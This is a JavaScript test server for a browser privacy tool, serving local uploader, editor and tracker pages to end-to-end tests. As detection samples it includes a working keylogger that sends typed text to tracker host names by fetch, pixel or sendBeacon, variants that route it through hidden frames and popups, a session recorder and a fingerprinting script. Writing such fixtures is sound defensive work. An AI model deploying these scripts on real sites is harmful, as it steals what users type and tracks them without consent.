// Local pages for the end-to-end tests, served on 127.0.0.1 only: uploaders
// of every kind a site uses, and the endpoint that receives what the page
// sent. Also a recording proxy: the browser is told to send everything that
// is not for 127.0.0.1 through it, so any request that would leave the
// machine is seen (and refused).
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import net from 'node:net';
import Busboy from 'busboy';
import { attackPages } from './attack-pages.mjs';
import { attack2Page } from './attack2-pages.mjs';
import { realmPage } from './realm-pages.mjs';
import { attack3Page } from './attack3-pages.mjs';
import { attack4Page } from './attack4-pages.mjs';
import { attack5Page } from './attack5-pages.mjs';
import { attack6Page } from './attack6-pages.mjs';
import { attack7Page } from './attack7-pages.mjs';
import { attack8Page } from './attack8-pages.mjs';
import { attack9Page } from './attack9-pages.mjs';
import { attack10Page, attack10Raw } from './attack10-pages.mjs';
import { attack11Page } from './attack11-pages.mjs';
import { attack12Page } from './attack12-pages.mjs';
import { attack13Page } from './attack13-pages.mjs';
import { attack14Page } from './attack14-pages.mjs';
import { attack15Page } from './attack15-pages.mjs';
import { attack16Page } from './attack16-pages.mjs';
import { attack17Page } from './attack17-pages.mjs';
import { attack18Page } from './attack18-pages.mjs';
import { attack19Page } from './attack19-pages.mjs';
import { attack20Page } from './attack20-pages.mjs';
import { attack21Page } from './attack21-pages.mjs';
import { attack22Page } from './attack22-pages.mjs';
import { attack23Page } from './attack23-pages.mjs';
import { attack24Page } from './attack24-pages.mjs';
import { attack25Page } from './attack25-pages.mjs';
import { attack26Page } from './attack26-pages.mjs';
import { attack27Page } from './attack27-pages.mjs';
import { attack28Page } from './attack28-pages.mjs';
import { attack29Page } from './attack29-pages.mjs';
import { attack30Page } from './attack30-pages.mjs';
import { attack31Page } from './attack31-pages.mjs';
import { attack32Page } from './attack32-pages.mjs';
import { attack33Page } from './attack33-pages.mjs';
import { attack34Page } from './attack34-pages.mjs';
import { attack35Page } from './attack35-pages.mjs';
import { attack36Page } from './attack36-pages.mjs';
import { attack37Page } from './attack37-pages.mjs';
import { attack38Page } from './attack38-pages.mjs';
import { attack39Page } from './attack39-pages.mjs';
import { attack40Page } from './attack40-pages.mjs';
import { attack41Page, attack41Raw } from './attack41-pages.mjs';
import { attack42Page } from './attack42-pages.mjs';
import { attack43Page } from './attack43-pages.mjs';
import { attack44Page } from './attack44-pages.mjs';
import { attack45Page } from './attack45-pages.mjs';
import { attack46Page } from './attack46-pages.mjs';
import { attack47Page } from './attack47-pages.mjs';
import { attack48Page } from './attack48-pages.mjs';
import { attack49Page } from './attack49-pages.mjs';
import { attack50Page } from './attack50-pages.mjs';
import { attack51Page } from './attack51-pages.mjs';
import { attack52Page } from './attack52-pages.mjs';
import { attack53Page } from './attack53-pages.mjs';
import { attack54Page } from './attack54-pages.mjs';
import { attack55Page } from './attack55-pages.mjs';
import { attack56Page } from './attack56-pages.mjs';
import { attack57Page } from './attack57-pages.mjs';
import { attack58Page } from './attack58-pages.mjs';
import { attack59Page } from './attack59-pages.mjs';
import { attack60Page } from './attack60-pages.mjs';
import { hostilePages } from './hostile-pages.mjs';

const upload = `
  async function send(files) {
    const body = new FormData();
    for (const f of files) body.append('photo', f, f.name);
    const r = await fetch('/upload', { method: 'POST', body });
    document.getElementById('status').textContent = 'sent ' + files.length + ' ' + (await r.text());
  }`;

const pages = {
  // A plain multipart form, submitted natively by a button.
  '/form': `<form method="post" action="/upload" enctype="multipart/form-data">
      <input type="file" name="photo" id="file"><button id="send">Send</button></form>`,
  // FormData + fetch, listening the way frameworks do: one delegated listener on the document.
  '/fetch': `<input type="file" id="file"><p id="status"></p>
    <script>${upload}
      document.addEventListener('change', (e) => { if (e.target.id === 'file') send([...e.target.files]); });
    </script>`,
  // A hidden input, created on the fly and never attached, opened by a button.
  '/hidden': `<button id="pick">Add photo</button><p id="status"></p>
    <script>${upload}
      document.getElementById('pick').addEventListener('click', () => {
        const input = document.createElement('input');
        input.type = 'file';
        input.onchange = () => send([...input.files]);
        input.click();
      });
    </script>`,
  // A drop zone.
  '/drop': `<div id="zone" style="width:400px;height:300px;border:3px dashed #888">Drop photos here</div><p id="status"></p>
    <script>${upload}
      const zone = document.getElementById('zone');
      zone.addEventListener('dragover', (e) => e.preventDefault());
      zone.addEventListener('drop', (e) => { e.preventDefault(); send([...e.dataTransfer.files]); });
    </script>`,
  // Paste into a contenteditable editor that uploads pasted files.
  '/paste': `<div id="editor" contenteditable="true" style="min-height:100px;border:1px solid #888">Write here</div><p id="status"></p>
    <script>${upload}
      document.getElementById('editor').addEventListener('paste', (e) => {
        const files = [...e.clipboardData.files];
        if (files.length) { e.preventDefault(); send(files); }
      });
      window.putImageOnClipboard = async (bytes) => {
        const blob = new Blob([new Uint8Array(bytes)], { type: 'image/png' });
        await navigator.clipboard.write([new ClipboardItem({ 'image/png': blob })]);
      };
    </script>`,
  // Several files at once.
  '/multi': `<input type="file" id="file" multiple><p id="status"></p>
    <script>${upload}
      document.getElementById('file').addEventListener('change', (e) => send([...e.target.files]));
    </script>`,
  // An uploader inside a same-origin frame.
  '/frame': `<p>Outer page</p><iframe id="inner" src="/fetch" style="width:600px;height:300px"></iframe>`,
  // A strict content security policy: scripts only from this origin, no wasm.
  '/csp': `<input type="file" id="file"><p id="status"></p><script src="/csp.js"></script>`,
  // A compose box like the ones people post from (for the README's screenshots).
  '/compose': `<style>body{font:16px system-ui;background:#f3f4f6;margin:0}main{max-width:560px;margin:40px auto;background:#fff;border-radius:12px;padding:20px;box-shadow:0 2px 8px #0002}textarea{width:100%;height:90px;font:inherit;border:1px solid #ccc;border-radius:8px;padding:8px;box-sizing:border-box}label{display:inline-block;margin-top:10px;padding:6px 12px;border-radius:8px;background:#1d9bf0;color:#fff}</style>
    <main><h2>New post</h2><textarea>ICE vans on Lake Street right now, stay inside.</textarea>
    <label>Add photo <input type="file" id="file" hidden></label><p id="status"></p></main>
    <script>
      document.getElementById('file').addEventListener('change', (e) => {
        const f = e.target.files[0];
        document.getElementById('status').textContent = f ? 'Attached ' + f.name + ' (' + Math.round(f.size / 1024) + ' KB)' : '';
      });
    </script>`,
  // For the benchmark: strict policy too; records when the cleaned file arrives.
  // Where people write: a form's textarea, a contenteditable editor with a
  // "Send" button that is no form button, a model-driven editor (the DOM is
  // drawn from a model that only beforeinput changes, as Draft.js and Lexical
  // do) and a controlled input (its value is redrawn from a model that only
  // input events change, as React does).
  '/write': `<form id="f" method="post" action="/posted"><textarea id="ta" name="body" rows="4" cols="70"></textarea>
  <button id="post">Post</button></form>
  <div class="composer"><div id="ce" contenteditable="true" style="min-height:60px;width:600px;border:1px solid #888;margin-top:10px"></div>
  <div class="toolbar"><div id="send" role="button" tabindex="0" style="display:inline-block;padding:4px 10px;background:#1d9bf0;color:#fff">Send</div></div></div>
  <div id="fw" contenteditable="true" style="min-height:40px;width:600px;border:1px solid #888;margin-top:10px"></div>
  <input id="ctl" style="width:600px;margin-top:10px">
  <p id="status"></p>
  <script>
  window.__inputs = 0;
  document.getElementById('ta').addEventListener('input', () => window.__inputs++);
  document.getElementById('send').addEventListener('click', async () => {
    await fetch('/posted', { method: 'POST', body: new URLSearchParams({ body: document.getElementById('ce').innerText }) });
    document.getElementById('status').textContent = 'sent';
  });
  const fw = document.getElementById('fw');
  window.__fwModel = '';
  const draw = (caret) => {
    fw.textContent = window.__fwModel;
    if (fw.firstChild) getSelection().collapse(fw.firstChild, Math.min(caret, window.__fwModel.length));
  };
  fw.addEventListener('beforeinput', (e) => {
    e.preventDefault();
    const r = getSelection().rangeCount ? getSelection().getRangeAt(0) : null;
    const at = (node, o) => (node === fw ? (o === 0 ? 0 : window.__fwModel.length) : o);
    const start = r ? at(r.startContainer, r.startOffset) : window.__fwModel.length;
    const end = r ? at(r.endContainer, r.endOffset) : start;
    const m = window.__fwModel;
    if (e.inputType.startsWith('insert')) {
      const data = e.data ?? (e.dataTransfer ? e.dataTransfer.getData('text/plain') : '');
      window.__fwModel = m.slice(0, start) + data + m.slice(end);
      draw(start + data.length);
    } else if (e.inputType === 'deleteContentBackward') {
      const from = start === end ? Math.max(0, start - 1) : start;
      window.__fwModel = m.slice(0, from) + m.slice(end);
      draw(from);
    }
  });
  const ctl = document.getElementById('ctl');
  window.__ctlModel = '';
  ctl.addEventListener('input', () => { window.__ctlModel = ctl.value; });
  setInterval(() => { if (ctl.value !== window.__ctlModel) ctl.value = window.__ctlModel; }, 50);
  </script>`,
  // ProseMirror, the editor toolkit behind many sites' composers (npm, served
  // from node_modules): its document is a model it rebuilds from DOM changes.
  '/prosemirror': `<style>.ProseMirror{white-space:pre-wrap;border:1px solid #888;min-height:60px;width:600px;padding:4px}</style>
  <script type="importmap">{"imports":{"prosemirror-view":"/pm/prosemirror-view.js","prosemirror-state":"/pm/prosemirror-state.js",
  "prosemirror-model":"/pm/prosemirror-model.js","prosemirror-transform":"/pm/prosemirror-transform.js","orderedmap":"/pm/orderedmap.js"}}</script>
  <div class="composer"><div id="pm"></div><div class="bar"><div id="pmsend" role="button" tabindex="0">Post</div></div></div>
  <script type="module">
  import { EditorState } from 'prosemirror-state';
  import { EditorView } from 'prosemirror-view';
  import { Schema } from 'prosemirror-model';
  const schema = new Schema({ nodes: { doc: { content: 'paragraph+' }, paragraph: { content: 'text*', toDOM: () => ['p', 0], parseDOM: [{ tag: 'p' }] }, text: {} } });
  const view = new EditorView(document.getElementById('pm'), { state: EditorState.create({ schema }) });
  window.__pmText = () => view.state.doc.textContent;
  document.getElementById('pmsend').addEventListener('click', () => {
    fetch('/posted', { method: 'POST', body: new URLSearchParams({ body: view.state.doc.textContent }) });
  });
  window.__pmReady = true;
  </script>`,
  '/bench': `<input type="file" id="file"><script src="/bench.js"></script>`,
  // Filled in per request: tracker hosts need the server's port.
  '/tracked': '',
  '/drawing': `<h1>Sketch pad</h1><canvas id="pad" width="400" height="240" style="border:1px solid #999"></canvas>
  <button id="save">Save drawing</button><p id="saved"></p><script src="/drawing.js"></script>`,
  '/many': '',
  // Before you type (issue 18): filled in per request, like /tracked.
  '/keylog': '',
  '/autosave': '',
  '/recorded': '',
  '/replayed': '',
  '/quiet': '',
  '/keylog-frame': '',
};

/** Real session-recorder host names and a recorder nobody lists, resolved to 127.0.0.1 too. */
export const RECORDER_HOSTS = ['static.hotjar.com', 'cdn.session-replay.test'];

const composeBox = `<h1>New post</h1><textarea id="ta" rows="4" cols="60"></textarea>
  <div id="ce" contenteditable="true" style="min-height:40px;width:480px;border:1px solid #888;margin-top:8px"></div>
  <p id="status"></p>`;

/**
 * Before-you-type pages. /keylog: a third-party script (from a real tracker
 * host name) sends what is typed on every input, in one form (?form=plain:
 * JSON by fetch; url: an image address; base64: sendBeacon). /autosave: the
 * page's own script saves the draft to its own server as it is typed.
 * /recorded: a session recorder from its real host name. /replayed: one
 * that no list names, found by what it does. /quiet: neither.
 * /keylog-frame: the page's own script sends what is typed through another
 * same-origin realm's built-ins (?via=after: a fresh about:blank frame made
 * after typing began; before: one made before; sandbox: a frame sandboxed
 * without scripts (allow-same-origin), made before; popup: a window.open('')
 * popup's sendBeacon; popupurl: a popup opened with an address, once,
 * used before its document arrives; sync: a frame made, used and removed in each input
 * event; srcdoc: a srcdoc frame used in the task that makes it, before its
 * document arrives), to Google's host (?to=third) or to its own server
 * (?to=own).
 */
const typingPage = (path, port, query) => {
  const form = /^(plain|url|base64)$/.test(query.get('form') || '') ? query.get('form') : 'plain';
  if (path === '/keylog') return `${composeBox}<script src="https://www.google-analytics.com:${port}/keylog.js?form=${form}"></script>`;
  if (path === '/autosave') return `${composeBox}<script>
    window.__saved = 0;
    document.getElementById('ta').addEventListener('input', (e) => {
      fetch('/drafts', { method: 'POST', body: JSON.stringify({ draft: e.target.value }) }).then(() => window.__saved++);
    });
  </script>`;
  if (path === '/keylog-frame') {
    const via = /^(after|before|sandbox|popup|popupurl|sync|srcdoc)$/.test(query.get('via') || '') ? query.get('via') : 'after';
    const dest = query.get('to') === 'own' ? '/drafts' : `https://www.google-analytics.com:${port}/g/collect`;
    return `${composeBox}<script>
    (() => {
      const via = '${via}';
      const dest = '${dest}';
      window.__sent = 0;
      const frame = (srcdoc, sandbox) => {
        const f = document.createElement('iframe');
        f.style.display = 'none';
        if (sandbox) f.sandbox = 'allow-same-origin';
        if (srcdoc) f.srcdoc = '<p>x</p>';
        document.body.append(f);
        return f;
      };
      let early = via === 'before' || via === 'sandbox' ? frame(false, via === 'sandbox') : null;
      let popup = null;
      const send = (realm, body) => {
        if (via.startsWith('popup')) realm.navigator.sendBeacon(dest, body);
        else realm.fetch(dest, { method: 'POST', mode: 'no-cors', body });
        window.__sent++;
      };
      document.addEventListener('input', (e) => {
        const value = 'value' in e.target ? e.target.value : e.target.innerText;
        const body = JSON.stringify({ v: value });
        if (via === 'before' || via === 'sandbox') send(early.contentWindow, body);
        else if (via === 'after') {
          if (!early) early = frame();
          setTimeout(() => send(early.contentWindow, body), 0);
        } else if (via === 'popupurl') {
          if (value.length === 12) send(window.open('/quiet'), body);
        } else if (via === 'popup') {
          if (!popup) popup = window.open('');
          if (popup) send(popup, body);
        } else {
          const f = frame(via === 'srcdoc');
          send(f.contentWindow, body);
          f.remove();
        }
      }, true);
    })();
  </script>`;
  }
  if (path === '/recorded') return `${composeBox}<script src="https://static.hotjar.com:${port}/c/hotjar-1234.js?sv=6"></script>`;
  if (path === '/replayed') return `${composeBox}<script src="https://cdn.session-replay.test:${port}/rec.js"></script>`;
  return composeBox;
};

/** A key logger: every input in a text field, sent away at once in one form. */
const keylogScript = `(() => {
  const src = new URL(document.currentScript.src);
  const form = src.searchParams.get('form');
  window.__sent = 0;
  document.addEventListener('input', (e) => {
    const el = e.target;
    const value = 'value' in el ? el.value : el.innerText;
    if (form === 'url') new Image().src = src.origin + '/g/px?ev=input&v=' + encodeURIComponent(value);
    else if (form === 'base64') navigator.sendBeacon(src.origin + '/g/b', btoa(unescape(encodeURIComponent(JSON.stringify({ v: value })))));
    else fetch(src.origin + '/g/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ ev: 'input', v: value }) });
    window.__sent++;
  }, true);
})();`;

/**
 * A session recorder: listens for keys and the pointer at the document,
 * observes every change to it, and sends batches (counts only: what it
 * records is not what it sends here, so it is found as a recorder, not as a
 * key logger).
 */
const recorderScript = `(() => {
  const origin = new URL(document.currentScript.src).origin;
  let events = 0;
  window.__batches = 0;
  for (const type of ['keydown', 'input', 'mousemove', 'click', 'scroll']) document.addEventListener(type, () => events++, true);
  new MutationObserver((m) => { events += m.length; }).observe(document, { childList: true, subtree: true, attributes: true, characterData: true, attributeOldValue: true, characterDataOldValue: true });
  setInterval(() => {
    fetch(origin + '/rec/batch', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ events }) }).then(() => window.__batches++, () => {});
  }, 300);
})();`;

/** Real tracker host names, resolved to 127.0.0.1 by Chromium's --host-resolver-rules. */
export const TRACKER_HOSTS = ['connect.facebook.net', 'www.facebook.com', 'www.google-analytics.com',
  'www.googletagmanager.com', 'stats.g.doubleclick.net', 'bat.bing.com', 'static.fp-vendor.test'];

const trackedPage = (port) => // port: the HTTPS stand-in for trackers
  `<h1>Neighbourhood news</h1>
  <p>Share: <a id="yt" href="https://youtu.be/dQw4w9WgXcQ?si=AbCdEfGhIjK">the video</a>,
  <a href="https://www.instagram.com/p/Cx1/?igsh=MWQ1ZGUxMzBkMA==">the post</a>,
  <a href="/about">about us</a>.</p>
  <img id="photo" src="/photo.jpg" width="320" alt="The march">
  <img src="/plain.png" width="80" height="80" alt="">
  <script src="https://connect.facebook.net:${port}/en_US/fbevents.js"></script>
  <script src="https://www.googletagmanager.com:${port}/gtag/js?id=G-TEST"></script>
  <img src="https://www.facebook.com:${port}/tr?id=1&ev=PageView" width="1" height="1" alt="">
  <script src="https://static.fp-vendor.test:${port}/fp.js"></script>
  <script>
    navigator.sendBeacon('https://stats.g.doubleclick.net:${port}/collect?v=1', 'x');
    fetch('https://www.google-analytics.com:${port}/g/collect?v=2', { mode: 'no-cors' });
  </script>`;

/** A page that loads 500 resources, for the popup benchmark. */
const manyPage = (port) => {
  const hosts = TRACKER_HOSTS.slice(0, 6);
  let html = '<h1>A busy page</h1>';
  for (let i = 0; i < 500; i++) {
    const src = i % 3 === 0 ? `https://${hosts[i % hosts.length]}:${port}` : '';
    html += `<img src="${src}/px/${i}.gif" width="1" height="1" alt="">`;
  }
  for (let i = 0; i < 100; i++) html += `<a href="https://youtu.be/v${i}?si=s${i}">v${i}</a> `;
  return html;
};

/** Canvas fingerprinting, as FingerprintJS-style scripts do it. */
const fpScript = `(() => {
  const c = document.createElement('canvas');
  c.width = 240; c.height = 60;
  const ctx = c.getContext('2d');
  ctx.textBaseline = 'top';
  ctx.font = '14px Arial';
  ctx.fillStyle = '#f60';
  ctx.fillRect(125, 1, 62, 20);
  ctx.fillStyle = '#069';
  ctx.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
  ctx.fillStyle = 'rgba(102, 204, 0, 0.7)';
  ctx.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
  const canvasHash = c.toDataURL().length;
  // Font probing: one string measured in 60 fonts.
  const m = document.createElement('canvas').getContext('2d');
  const fonts = Array.from({ length: 60 }, (_, i) => ['Arial', 'Courier New', 'Georgia', 'Verdana', 'Tahoma', 'Impact'][i % 6] + ' ' + i);
  for (const f of fonts) { m.font = '72px "' + f + '", monospace'; m.measureText('mmmmmmmmmmlli'); }
  // Audio: a triangle oscillator through a compressor, rendered offline.
  const a = new OfflineAudioContext(1, 5000, 44100);
  const o = a.createOscillator();
  o.type = 'triangle';
  o.frequency.value = 10000;
  const k = a.createDynamicsCompressor();
  o.connect(k);
  k.connect(a.destination);
  o.start(0);
  a.startRendering().then(() => { window.__fp = canvasHash; });
})();`;

/** A drawing app: it reads its own canvas back to save the drawing. Not a fingerprinter. */
const drawingScript = `(() => {
  const pad = document.getElementById('pad');
  const ctx = pad.getContext('2d');
  ctx.save();
  ctx.font = '16px sans-serif';
  ctx.fillStyle = '#333';
  ctx.fillText('Untitled drawing', 8, 20);
  ctx.fillStyle = '#c00';
  ctx.fillText('Draw here', 8, 44);
  ctx.restore();
  let down = false;
  pad.addEventListener('pointerdown', (e) => { down = true; ctx.beginPath(); ctx.moveTo(e.offsetX, e.offsetY); });
  pad.addEventListener('pointermove', (e) => { if (down) { ctx.lineTo(e.offsetX, e.offsetY); ctx.stroke(); } });
  pad.addEventListener('pointerup', () => { down = false; });
  document.getElementById('save').addEventListener('click', () => {
    document.getElementById('saved').textContent = 'saved ' + pad.toDataURL('image/png').length;
  });
})();`;
// The guard first lets a change with no file through (the original is held
// back): the time that counts is when a file reaches the page.
const benchScript = `document.getElementById('file').addEventListener('change', (e) => {
  const f = e.target.files[0];
  if (!f) return;
  window.__arrived = { at: performance.now(), size: f.size };
  window.__file = f;
});`;
const cspScript = `${upload}
  document.getElementById('file').addEventListener('change', (e) => send([...e.target.files]));`;

const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');

export function startServer() {
  const received = [];
  const drafts = [];
  const posted = [];
  const trackerHits = [];
  const tls = { port: 0 };
  const handler = (req, res) => {
    const path = new URL(req.url, 'http://x').pathname;
    if (req.method === 'POST' && path === '/drafts') {
      req.resume();
      req.on('end', () => {
        drafts.push(Date.now());
        res.writeHead(204);
        res.end();
      });
      return;
    }
    if (req.method === 'POST' && path === '/posted') {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (c) => { body += c; });
      req.on('end', () => {
        posted.push(new URLSearchParams(body).get('body'));
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end('<p id="status">posted</p>');
      });
      return;
    }
    if (req.method === 'POST' && path === '/upload') {
      const bb = Busboy({ headers: req.headers, limits: { fileSize: 3e9 } });
      const files = [];
      bb.on('file', (_name, stream, info) => {
        const chunks = [];
        stream.on('data', (c) => chunks.push(c));
        // A file input with no file sends a part with no name and no bytes: nothing was sent.
        stream.on('end', () => {
          const bytes = Buffer.concat(chunks);
          if (info.filename || bytes.length) files.push({ name: info.filename, type: info.mimeType, bytes });
        });
      });
      bb.on('close', () => {
        received.push(...files);
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<p id="status">received ${files.length}</p>`);
      });
      req.pipe(bb);
      return;
    }
    const pm = /^\/pm\/((?:prosemirror-[a-z]+)|orderedmap)\.js$/.exec(path);
    if (pm) {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end(readFileSync(new URL(`../../node_modules/${pm[1]}/dist/index.js`, import.meta.url)));
      return;
    }
    if (path === '/csp.js' || path === '/bench.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end(path === '/csp.js' ? cspScript : benchScript);
      return;
    }
    const host = (req.headers.host || '').split(':')[0];
    // plain.test: the same pages on a site that is not a secure context (plain http, not localhost).
    if (host !== '127.0.0.1' && host !== 'localhost' && host !== 'plain.test') {
      // A stand-in for a tracker's server.
      trackerHits.push(host);
      if (path === '/keylog.js' || path === '/c/hotjar-1234.js' || path === '/rec.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end(path === '/keylog.js' ? keylogScript : recorderScript);
      } else if (path === '/fp.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end(fpScript);
      } else if (path.endsWith('js')) {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end('/* tracker stand-in */');
      } else {
        res.writeHead(200, { 'content-type': 'image/gif' });
        res.end(GIF);
      }
      return;
    }
    if (path === '/www' || path.startsWith('/www/')) {
      // The offline page, as built in dist/www/.
      const rel = path === '/www' || path === '/www/' ? 'index.html' : path.slice('/www/'.length);
      const file = new URL(`../../dist/www/${rel}`, import.meta.url);
      if (rel.includes('..') || !existsSync(file)) {
        res.writeHead(404);
        res.end();
        return;
      }
      const ext = rel.split('.').pop();
      const type = { html: 'text/html; charset=utf-8', js: 'text/javascript', css: 'text/css', wasm: 'application/wasm', png: 'image/png', webmanifest: 'application/manifest+json', json: 'application/json' }[ext] || 'application/octet-stream';
      res.writeHead(200, { 'content-type': type });
      res.end(readFileSync(file));
      return;
    }
    if (path.startsWith('/px/')) {
      res.writeHead(200, { 'content-type': 'image/gif' });
      res.end(GIF);
      return;
    }
    if (path === '/photo.jpg' || path === '/plain.png') {
      const file = path === '/photo.jpg' ? '../../samples/sample.jpg' : '../../build/fixtures/frame-a.png';
      res.writeHead(200, { 'content-type': path.endsWith('.jpg') ? 'image/jpeg' : 'image/png', 'cache-control': 'max-age=3600' });
      res.end(readFileSync(new URL(file, import.meta.url)));
      return;
    }
    if (path === '/drawing.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end(drawingScript);
      return;
    }
    const query = new URL(req.url, 'http://x').searchParams;
    const page = path === '/tracked' ? trackedPage(tls.port) : path === '/many' ? manyPage(tls.port)
      : ['/keylog', '/autosave', '/recorded', '/replayed', '/quiet', '/keylog-frame'].includes(path) ? typingPage(path, tls.port, query)
      : path.startsWith('/attack2-') ? attack2Page(path, tls.port, query)
      : path.startsWith('/realm-') ? realmPage(path, query)
      : path.startsWith('/attack3-') ? attack3Page(path, query)
      : path.startsWith('/attack4-') ? attack4Page(path, query)
      : path.startsWith('/attack5-') ? attack5Page(path, query)
      : path.startsWith('/attack6-') ? attack6Page(path, query)
      : path.startsWith('/attack7-') ? attack7Page(path, query)
      : path.startsWith('/attack8-') ? attack8Page(path, query)
      : path.startsWith('/attack9-') ? attack9Page(path, query)
      : path.startsWith('/attack10-') ? attack10Page(path, query)
      : path.startsWith('/attack11-') ? attack11Page(path, query)
      : path.startsWith('/attack12-') ? attack12Page(path, query)
      : path.startsWith('/attack13-') ? attack13Page(path, query)
      : path.startsWith('/attack14-') ? attack14Page(path, query)
      : path.startsWith('/attack15-') ? attack15Page(path, query)
      : path.startsWith('/attack16-') ? attack16Page(path, query)
      : path.startsWith('/attack17-') ? attack17Page(path, query)
      : path.startsWith('/attack18-') ? attack18Page(path, query)
      : path.startsWith('/attack19-') ? attack19Page(path, query)
      : path.startsWith('/attack20-') ? attack20Page(path, query)
      : path.startsWith('/attack21-') ? attack21Page(path, query)
      : path.startsWith('/attack22-') ? attack22Page(path, query)
      : path.startsWith('/attack23-') ? attack23Page(path, query)
      : path.startsWith('/attack24-') ? attack24Page(path, query)
      : path.startsWith('/attack25-') ? attack25Page(path, query)
      : path.startsWith('/attack26-') ? attack26Page(path, query)
      : path.startsWith('/attack27-') ? attack27Page(path, query)
      : path.startsWith('/attack28-') ? attack28Page(path, query)
      : path.startsWith('/attack29-') ? attack29Page(path, query)
      : path.startsWith('/attack30-') ? attack30Page(path, query)
      : path.startsWith('/attack31-') ? attack31Page(path, query)
      : path.startsWith('/attack32-') ? attack32Page(path, query)
      : path.startsWith('/attack33-') ? attack33Page(path, query)
      : path.startsWith('/attack34-') ? attack34Page(path, query)
      : path.startsWith('/attack35-') ? attack35Page(path, query)
      : path.startsWith('/attack36-') ? attack36Page(path, query)
      : path.startsWith('/attack37-') ? attack37Page(path, query)
      : path.startsWith('/attack38-') ? attack38Page(path, query)
      : path.startsWith('/attack39-') ? attack39Page(path, query)
      : path.startsWith('/attack40-') ? attack40Page(path, query)
      : path.startsWith('/attack41-') ? attack41Page(path, query)
      : path.startsWith('/attack42-') ? attack42Page(path, query)
      : path.startsWith('/attack43-') ? attack43Page(path, query)
      : path.startsWith('/attack44-') ? attack44Page(path, query)
      : path.startsWith('/attack45-') ? attack45Page(path, query)
      : path.startsWith('/attack46-') ? attack46Page(path, query)
      : path.startsWith('/attack47-') ? attack47Page(path, query)
      : path.startsWith('/attack48-') ? attack48Page(path, query)
      : path.startsWith('/attack49-') ? attack49Page(path, query)
      : path.startsWith('/attack50-') ? attack50Page(path, query)
      : path.startsWith('/attack51-') ? attack51Page(path, query)
      : path.startsWith('/attack52-') ? attack52Page(path, query)
      : path.startsWith('/attack53-') ? attack53Page(path, query)
      : path.startsWith('/attack54-') ? attack54Page(path, query)
      : path.startsWith('/attack55-') ? attack55Page(path, query)
      : path.startsWith('/attack56-') ? attack56Page(path, query)
      : path.startsWith('/attack57-') ? attack57Page(path, query)
      : path.startsWith('/attack58-') ? attack58Page(path, query)
      : path.startsWith('/attack59-') ? attack59Page(path, query)
      : path.startsWith('/attack60-') ? attack60Page(path, query)
      : (pages[path] ?? hostilePages[path] ?? attackPages[path]);
    const raw = path.startsWith('/attack10-') ? attack10Raw(path, query) : path.startsWith('/attack41-') ? attack41Raw(path, query) : undefined;
    if (raw) {
      res.writeHead(200, { 'content-type': raw.type });
      res.end(raw.body);
      return;
    }
    if (!page) {
      res.writeHead(404);
      res.end();
      return;
    }
    const headers = { 'content-type': 'text/html; charset=utf-8' };
    if (path === '/csp' || path === '/bench') headers['content-security-policy'] = "script-src 'self'";
    res.writeHead(200, headers);
    res.end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${path}</title></head><body>${page}</body></html>`);
  };
  const server = http.createServer(handler);
  // Tracker stand-ins speak HTTPS: their real names are on the browser's
  // HSTS preload list. The certificate is made here; Chromium is told to
  // accept it (--ignore-certificate-errors, tests only).
  const secure = https.createServer(certificate(), handler);
  const listen = (s) => new Promise((r) => s.listen(0, '127.0.0.1', r));
  return Promise.all([listen(server), listen(secure)]).then(() => {
    tls.port = secure.address().port;
    const base = `http://127.0.0.1:${server.address().port}`;
    const close = () => Promise.all([new Promise((r) => server.close(r)), new Promise((r) => secure.close(r))]);
    return { base, received, posted, drafts, trackerHits, port: server.address().port, tlsPort: tls.port, close };
  });
}

let cert = null;
/** A self-signed certificate for the tracker stand-ins, made once with openssl. */
function certificate() {
  if (cert) return cert;
  const dir = mkdtempSync(join(tmpdir(), 'silbato-cert-'));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=silbato-test',
    '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')], { stdio: 'ignore' });
  cert = { key: readFileSync(join(dir, 'key.pem')), cert: readFileSync(join(dir, 'cert.pem')) };
  rmSync(dir, { recursive: true, force: true });
  return cert;
}

/** A proxy that records the host of every request sent to it and refuses them all. */
export function startRecordingProxy() {
  const seen = [];
  const server = http.createServer((req, res) => {
    seen.push(new URL(req.url).host);
    res.writeHead(403);
    res.end();
  });
  server.on('connect', (req, socket) => {
    seen.push(req.url);
    // A browser closing may reset the socket first: that is not a failure
    // (once seen as an uncaught ECONNRESET failing a whole suite).
    socket.on('error', () => {});
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      resolve({ address: `127.0.0.1:${server.address().port}`, seen, close: () => new Promise((r) => server.close(r)) });
    });
  });
}

export { net };
